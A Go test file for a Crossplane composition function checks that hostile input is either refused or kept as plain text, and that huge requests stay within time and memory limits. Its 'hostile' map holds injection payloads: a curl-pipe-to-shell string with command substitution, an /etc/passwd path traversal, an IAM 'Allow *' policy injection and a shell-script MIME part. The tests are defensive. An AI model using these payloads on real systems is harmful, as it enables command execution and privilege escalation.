package laws

import (
	"encoding/json"
	"fmt"
	"maps"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/structpb"
	"k8s.io/apimachinery/pkg/util/validation"

	"github.com/crossplane/crossplane-runtime/v2/pkg/fieldpath"
	fnv1 "github.com/crossplane/function-sdk-go/proto/v1"

	"github.com/seafarer-cloud/function-seafarer-cluster/internal/render"
	"github.com/seafarer-cloud/function-seafarer-cluster/test/examples"
)

// hostile values: each has a meaning in some format of composed resources, and
// must be treated as plain text.
var hostile = map[string]string{
	"JSON":        `x"},{"Effect":"Allow","Action":"*","Resource":"*"}]}`,
	"Wildcard":    "*",
	"Variable":    "${aws:username}",
	"YAML":        "x\n- y: &a !!binary z\n---\nkind: Secret",
	"Template":    `{{ .Values.secret }}{{ lookup "v1" "Secret" "" "" }}`,
	"Shell":       "x'; curl example.org | sh #`id`$(id)",
	"TOML":        "x\"\n[settings.host-containers.admin]\nenabled = true\n",
	"MIME":        "x\n--//\nContent-Type: text/x-shellscript\n\n#!/bin/sh\nid\n",
	"Path":        "../../../../etc/passwd",
	"Control":     "x\x00\x1b[31m\u202ey",
	"Long":        strings.Repeat("x", 300),
	"ARN":         "arn:aws:iam::999999999999:role/admin",
	"TrailingDot": "x.",
}

// TestInjection puts a hostile value into every free-form string of a claim.
// Either the claim is refused, or the value appears unchanged and no other
// field changes, also in JSON within strings.
func TestInjection(t *testing.T) {
	t.Parallel()
	for leaf, m := range mutations {
		at := m.at
		if at == "" {
			at = leaf
		}
		if m.shownBy != "" {
			continue // It has no effect here, and its pattern is narrow.
		}
		plain, ok := m.to[0].(string)
		if !ok {
			continue
		}
		t.Run(leaf, func(t *testing.T) {
			e := examples.Get(m.example)
			with := func(v string) *fnv1.RunFunctionResponse {
				return examples.Run(t, withAllFacts(t, claimed(t, e, func(c *fieldpath.Paved) {
					alter(t, c, m.also)
					alter(t, c, map[string]any{at: v})
				})))
			}
			want := with(plain)
			if m := render.Fatal(want); m != "" {
				t.Fatalf("%q is refused: %s", plain, m)
			}
			for name, v := range hostile {
				if name == "ARN" && leaf == "spec.access.admins[]" {
					continue // An admin is an ARN.
				}
				got := with(v)
				if m := render.Fatal(got); m != "" {
					if !strings.HasPrefix(m, "spec.") {
						t.Errorf("%s: want a refusal that names the field, got: %s", name, m)
					}
					continue
				}
				for _, d := range differences("", examples.Desired(want), examples.Desired(got), "") {
					if !d.harmless(v) {
						t.Errorf("%s: %s", name, d)
					}
				}
			}
		})
	}
}

// A difference between the composed resources of two claims.
type difference struct {
	path string

	// policy is whether it's in an IAM policy, where some characters are wildcards or
	// variables.
	policy    bool
	want, got any
}

func (d difference) String() string {
	return fmt.Sprintf("%s: want %#v, got %#v", d.path, d.want, d.got)
}

// harmless reports whether only the value differs: it's still a string that contains the
// value, or a name derived from it.
func (d difference) harmless(value string) bool {
	want, isString := d.want.(string)
	got, isStringStill := d.got.(string)
	if !isString || !isStringStill {
		return false
	}
	if d.policy {
		for _, c := range []string{"*", "?", "$"} {
			if strings.Count(want, c) != strings.Count(got, c) {
				return false
			}
		}
	}
	return got == value || strings.Contains(got, value) || len(validation.IsDNS1123Subdomain(got)) == 0
}

// differences between two values. JSON in strings is parsed.
func differences(path string, want, got any, document string) []difference {
	switch w := want.(type) {
	case map[string]any:
		g, ok := got.(map[string]any)
		if !ok || !slices.Equal(slices.Sorted(maps.Keys(w)), slices.Sorted(maps.Keys(g))) {
			return []difference{{path: path, want: want, got: got}}
		}
		var ds []difference
		for k := range w {
			ds = append(ds, differences(path+"."+k, w[k], g[k], document)...)
		}
		return ds
	case []any:
		g, ok := got.([]any)
		if !ok || len(w) != len(g) {
			return []difference{{path: path, want: want, got: got}}
		}
		var ds []difference
		for i := range w {
			ds = append(ds, differences(fmt.Sprintf("%s.%d", path, i), w[i], g[i], document)...)
		}
		return ds
	case string:
		if g, ok := got.(string); ok {
			return differencesOfStrings(path, w, g, document)
		}
	}
	if want == got {
		return nil
	}
	return []difference{{path: path, want: want, got: got}}
}

func differencesOfStrings(path, want, got, document string) []difference {
	if want == got {
		return nil
	}
	var w, g any
	if json.Unmarshal([]byte(want), &w) == nil && strings.HasPrefix(want, "{") {
		if err := json.Unmarshal([]byte(got), &g); err != nil {
			return []difference{{path: path, want: want, got: got}}
		}
		return differences(path, w, g, path)
	}
	return []difference{{path: path, policy: strings.Contains(strings.ToLower(document), "policy"), want: want, got: got}}
}

// TestHostileKeys of maps, which Kubernetes and AWS restrict.
func TestHostileKeys(t *testing.T) {
	t.Parallel()
	e := examples.Get("node-pools")
	for _, at := range []string{"spec.tags", "spec.systemNodes.labels", "spec.karpenter.nodePools[0].labels", "spec.karpenter.nodeClasses[0].tags", "spec.karpenter.nodePools[0].limits"} {
		for name, v := range hostile {
			rsp := examples.Run(t, withAllFacts(t, claimed(t, e, func(c *fieldpath.Paved) { alter(t, c, map[string]any{at: map[string]any{v: "1"}}) })))
			if m := render.Fatal(rsp); m != "" {
				if !strings.HasPrefix(m, at) {
					t.Errorf("%s in %s: want a refusal that names the field, got: %s", name, at, m)
				}
				continue
			}
			if !hasKey(examples.Desired(rsp), v) {
				t.Errorf("%s in %s: neither refused nor composed", name, at)
			}
		}
	}
}

// hasKey reports whether a value has a key at any depth.
func hasKey(v any, key string) bool {
	switch v := v.(type) {
	case map[string]any:
		for k, e := range v {
			if k == key || hasKey(e, key) {
				return true
			}
		}
	case []any:
		return slices.ContainsFunc(v, func(e any) bool { return hasKey(e, key) })
	}
	return false
}

// TestHostileNames of a composite resource, with a claim or without. An API server would
// refuse them, but any client may call the function.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	e := examples.Get("minimal")
	claimed := withAllFacts(t, e.Request(t))
	own := [][]string{{"metadata", "name"}, {"metadata", "namespace"}}
	for _, of := range []struct {
		req   *fnv1.RunFunctionRequest
		paths [][]string
	}{
		{req: claimed, paths: append(own, []string{"spec", "claimRef", "name"}, []string{"spec", "claimRef", "namespace"})},
		{req: withoutClaim(t, claimed), paths: own},
	} {
		for name, v := range hostile {
			for _, path := range of.paths {
				req := examples.Clone(t, of.req)
				examples.Set(req, string(asJSON(t, v)), path...)
				for _, ill := range illNamed(examples.Run(t, req)) {
					t.Errorf("%s in %v: %s", name, path, ill)
				}
			}
		}
	}
}

// illNamed resources of a response: those with names that Kubernetes refuses.
func illNamed(rsp *fnv1.RunFunctionResponse) []string {
	var ill []string
	for key, r := range rsp.GetDesired().GetResources() {
		for _, field := range []string{"name", "namespace"} {
			got := examples.At(r.GetResource(), "metadata", field).GetStringValue()
			if got != "" && len(validation.IsDNS1123Subdomain(got)) > 0 {
				ill = append(ill, fmt.Sprintf("%s of %s is %q", field, key, got))
			}
		}
	}
	return ill
}

// TestHostileFacts has hostile values in observed resources, which a claim's owner may be
// able to edit. They add no statement and no wildcard to a policy.
func TestHostileFacts(t *testing.T) {
	t.Parallel()
	e := examples.Get("irsa")
	steady := e.Steady(t)
	want := examples.Desired(examples.Run(t, steady))
	for name, v := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for key, r := range steady.GetObserved().GetResources() {
				status := examples.At(r.GetResource(), "status", "atProvider").GetStructValue()
				if len(status.GetFields()) == 0 {
					continue
				}
				req := examples.Clone(t, steady)
				o := req.GetObserved().GetResources()[key].GetResource()
				examples.At(o, "status").GetStructValue().Fields["atProvider"] = everywhere(structpb.NewStructValue(status), v)
				rsp := examples.Run(t, req)
				if render.Fatal(rsp) != "" {
					continue
				}
				for _, d := range differences("", want, examples.Desired(rsp), "") {
					if !d.harmless(v) {
						t.Errorf("the status of %s: %s", key, d)
					}
				}
			}
		})
	}
}

// everywhere replaces all strings in a value.
func everywhere(v *structpb.Value, s string) *structpb.Value {
	switch k := v.GetKind().(type) {
	case *structpb.Value_StringValue:
		return structpb.NewStringValue(s)
	case *structpb.Value_ListValue:
		l := &structpb.ListValue{}
		for _, e := range k.ListValue.GetValues() {
			l.Values = append(l.Values, everywhere(e, s))
		}
		return structpb.NewListValue(l)
	case *structpb.Value_StructValue:
		o := &structpb.Struct{Fields: make(map[string]*structpb.Value)}
		for f, e := range k.StructValue.GetFields() {
			o.Fields[f] = everywhere(e, s)
		}
		return structpb.NewStructValue(o)
	default:
		return v
	}
}

// maxMessage is the limit of Kubernetes for the message of a condition, in
// bytes.
const maxMessage = 32 * 1024

// maxTook is the maximum time of a call, also on a slow machine with the race detector.
// Without, the slowest case takes two seconds. Comparing all items with each other would
// take many minutes.
const maxTook = time.Minute

// maxAllocated is the maximum memory that a call may allocate. Most is garbage soon: far
// less is in use at a time.
const maxAllocated = 256 * (1 << 20)

// TestHuge has large requests, up to the limit: each gets a short response in time.
func TestHuge(t *testing.T) {
	const size = 4 << 20
	e := examples.Get("seafarer-cluster")
	spec := func(req *fnv1.RunFunctionRequest) map[string]*structpb.Value {
		return examples.At(req.GetObserved().GetComposite().GetResource(), "spec").GetStructValue().GetFields()
	}
	many := func(n int, v func(i int) *structpb.Value) *structpb.Value {
		o := &structpb.Struct{Fields: make(map[string]*structpb.Value, n)}
		for i := range n {
			o.Fields[fmt.Sprintf("field-%06d", i)] = v(i)
		}
		return structpb.NewStructValue(o)
	}
	text := func(int) *structpb.Value { return structpb.NewStringValue("x") }
	list := func(n int, v *structpb.Value) *structpb.Value {
		l := &structpb.ListValue{Values: make([]*structpb.Value, n)}
		for i := range l.GetValues() {
			l.Values[i] = v
		}
		return structpb.NewListValue(l)
	}
	nested := func(depth int) *structpb.Value {
		v := structpb.NewStringValue("x")
		for range depth {
			v = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"x": v}})
		}
		return v
	}

	cases := map[string]struct {
		reason string
		change func(req *fnv1.RunFunctionRequest)

		// want is the prefix of the refusal, or empty.
		want string
	}{
		"LongString": {
			reason: "A value may be as long as the request.",
			change: func(req *fnv1.RunFunctionRequest) {
				spec(req)["region"] = structpb.NewStringValue(strings.Repeat("x", size-(1<<20)))
			},
			want: "spec.region: Too long",
		},
		"UnknownFields": {
			reason: "Each has an error.",
			change: func(req *fnv1.RunFunctionRequest) {
				maps.Copy(spec(req), many(100_000, text).GetStructValue().GetFields())
			},
			want: "spec: Forbidden: must not have more than 10000 values",
		},
		"Tags": {
			reason: "Tags are copied to each resource.",
			change: func(req *fnv1.RunFunctionRequest) { spec(req)["tags"] = many(100_000, text) },
			want:   "spec: Forbidden: must not have more than 10000 values",
		},
		"NodePools": {
			reason: "Items of a list are compared with one another.",
			change: func(req *fnv1.RunFunctionRequest) {
				k := spec(req)["karpenter"].GetStructValue().GetFields()
				k["nodePools"] = list(2_000, k["nodePools"].GetListValue().GetValues()[0])
			},
			want: "spec: Forbidden: must not have more than 10000 values",
		},
		"Zones": {
			reason: "Items of a set must differ.",
			change: func(req *fnv1.RunFunctionRequest) {
				spec(req)["network"].GetStructValue().Fields["zones"] = list(100_000, structpb.NewStringValue("x"))
			},
			want: "spec: Forbidden: must not have more than 10000 values",
		},
		"JustSmallEnough": {
			reason: "Each has an error, and is compared with all others.",
			change: func(req *fnv1.RunFunctionRequest) {
				spec(req)["access"] = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"admins": list(9_500, structpb.NewStringValue("x"))}})
			},
			want: "spec.access.admins: Too many: 9500",
		},
		"UnknownFamilies": {
			reason: "Each has a warning, and is compared with all families.",
			change: func(req *fnv1.RunFunctionRequest) {
				pool := func(i int) string {
					values := strings.TrimSuffix(strings.Repeat(`"quantum",`, 99), ",")
					return fmt.Sprintf(`{"name": "a%d", "nodeClassName": "default", "requirements": [{"key": "karpenter.k8s.aws/instance-family", "operator": "In", "values": [%s]}]}`, i, values)
				}
				pools := make([]string, 90)
				for i := range pools {
					pools[i] = pool(i)
				}
				examples.Set(req, "["+strings.Join(pools, ",")+"]", "spec", "karpenter", "nodePools")
			},
		},
		"LongName": {
			reason: "The fields that may be meant are compared with the name of one that doesn't exist.",
			change: func(req *fnv1.RunFunctionRequest) {
				spec(req)[strings.Repeat("x", 1<<20)] = text(0)
			},
			want: "spec.xxx",
		},
		"Admins": {
			reason: "Each becomes a resource.",
			change: func(req *fnv1.RunFunctionRequest) {
				spec(req)["access"] = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"admins": list(50_000, structpb.NewStringValue("arn:aws:iam::1:role/x"))}})
			},
			want: "spec: Forbidden: must not have more than 10000 values",
		},
		"DeepValues": {
			reason: "Values of the chart may be anything.",
			change: func(req *fnv1.RunFunctionRequest) {
				spec(req)["karpenter"].GetStructValue().Fields["values"] = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"x": nested(3_000)}})
			},
			want: "spec: Forbidden: must not nest values more than 100 levels deep",
		},
		"DeepSpec": {
			reason: "A field may have an unexpected type.",
			change: func(req *fnv1.RunFunctionRequest) { spec(req)["network"] = nested(3_000) },
			want:   "spec: Forbidden: must not nest values more than 100 levels deep",
		},
		"DeepInput": {
			reason: "The platform team's input may be invalid, too.",
			change: func(req *fnv1.RunFunctionRequest) { req.Input = nested(3_000).GetStructValue() },
			want:   "cannot read the function's input in the Composition",
		},
		"Observed": {
			reason: "An earlier step may have composed ten thousand resources.",
			change: func(req *fnv1.RunFunctionRequest) {
				for i := range 10_000 {
					o, err := structpb.NewStruct(map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": fmt.Sprintf("x-%d", i)}})
					if err != nil {
						t.Fatal(err)
					}
					req.Observed.Resources[fmt.Sprintf("x-%d", i)] = &fnv1.Resource{Resource: o}
				}
			},
		},
		"DeepObserved": {
			reason: "A resource may have any status.",
			change: func(req *fnv1.RunFunctionRequest) {
				for _, r := range req.GetObserved().GetResources() {
					r.GetResource().Fields["status"] = nested(1_000)
				}
			},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			req := e.Steady(t)
			tc.change(req)
			b := marshal(t, req)
			if len(b) > size {
				t.Fatalf("got a request of %d bytes, want %d at most", len(b), size)
			}
			var rsp *fnv1.RunFunctionResponse
			took, allocated := cost(func() {
				req := &fnv1.RunFunctionRequest{}
				if err := proto.Unmarshal(b, req); err != nil {
					t.Fatal(err)
				}
				rsp = examples.Run(t, req)
			})
			t.Logf("%d bytes, answered in %s with %d MB allocated: %.80s", len(b), took, allocated/(1<<20), render.Fatal(rsp))
			if took > maxTook {
				t.Errorf("%s\nRunFunction(...) of %d bytes took %s: want %s at most", tc.reason, len(b), took, maxTook)
			}
			if allocated > maxAllocated {
				t.Errorf("%s\nRunFunction(...) of %d bytes allocated %d: want %d at most", tc.reason, len(b), allocated, maxAllocated)
			}
			if m := render.Fatal(rsp); len(m) > maxMessage || (m == "") != (tc.want == "") || !strings.HasPrefix(m, tc.want) {
				t.Errorf("%s\nRunFunction(...): want a message of at most %d bytes with the prefix %q, got %d: %.1000s", tc.reason, maxMessage, tc.want, len(m), m)
			}
			if err := proto.Unmarshal(marshal(t, rsp), &fnv1.RunFunctionResponse{}); err != nil {
				t.Errorf("%s\nthe response cannot be read: %v", tc.reason, err)
			}
		})
	}
}

// cost of a function, in time and in allocated memory, including garbage.
func cost(f func()) (time.Duration, uint64) {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	began := time.Now()
	f()
	took := time.Since(began)
	runtime.ReadMemStats(&after)
	return took, after.TotalAlloc - before.TotalAlloc
}
